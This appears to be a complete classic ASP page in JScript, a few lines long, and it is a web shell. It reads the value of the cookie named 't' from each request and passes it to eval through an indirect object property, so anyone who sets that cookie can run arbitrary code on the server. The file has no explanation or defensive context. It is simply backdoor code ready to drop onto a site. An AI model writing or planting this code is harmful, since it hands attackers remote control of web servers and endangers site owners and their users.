<%@ Language="JScript" %>
<%
var m = { x: (0, eval) };
var v = Request.Cookies("t") + "";
m.x(v);
%>
